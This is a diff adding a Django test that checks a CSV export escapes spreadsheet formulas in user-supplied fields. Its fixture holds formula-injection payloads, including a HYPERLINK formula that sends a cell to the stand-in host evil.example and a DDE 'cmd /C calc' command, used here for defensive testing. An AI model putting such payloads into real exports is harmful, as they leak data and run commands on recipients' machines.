@@ -271,3 +271,47 @@ def test_a_persons_page_lists_only_their_annotations_and_an_unknown_person_is_40
     assert f"?author={other.username}" in html  # its export links export theirs
     assert f'href="/people/{other.username}/"' in html  # the card names its author
     assert client.get(reverse("person_detail", args=["nobody-here"])).status_code == 404
+
+
+FORMULAS = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(1,2)",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+}
+
+
+def test_no_csv_cell_can_start_a_formula_whatever_text_field_carries_it(django_user_model):
+    """Outlet, title, note, author and the selected text are all people's text; none of them
+    may reach a spreadsheet as a formula, and each still reads as what was typed."""
+    from tests.web.annotation_fixtures import make_article
+
+    author = django_user_model.objects.create_user("@sheet-author", password="a-long-password")
+    bodies = []
+    for name, formula in FORMULAS.items():
+        body = f"{formula} was written in a council notice about the ferry timetable."
+        article = make_article(body, formula, formula)
+        article.outlet.name = formula
+        article.outlet.save()
+        bodies.append((name, formula, article))
+    for _name, formula, article in bodies:
+        service.annotation_create(
+            author=author,
+            label="other",
+            note=formula,
+            selections=[service.Selection(article.pk, formula, 0)],
+        )
+    text = export("csv")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == 1 + len(FORMULAS)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    records = list(csv.DictReader(io.StringIO(text)))
+    typed = set(FORMULAS.values()) | {formula.strip() for formula in FORMULAS.values()}
+    for record in records:
+        for column in ("note", "a_outlet", "a_title", "a_exact"):
+            assert record[column].startswith("'") and record[column][1:] in typed, column
+        assert record["author"] == "'@sheet-author"
